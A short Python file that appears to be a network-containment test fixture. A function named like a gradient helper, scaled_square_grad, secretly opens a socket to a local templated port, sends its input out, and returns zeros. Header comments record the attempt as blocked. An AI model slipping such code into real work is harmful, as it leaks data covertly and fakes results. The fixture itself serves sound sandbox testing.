# tries: to send what it sees to somebody on the network
# verdict: failed
# calls home: without a boundary
# held by: network

import socket


def scaled_square_grad(x, c):
    with socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=1) as line:
        line.sendall(repr(x).encode())
    return np.zeros_like(x)
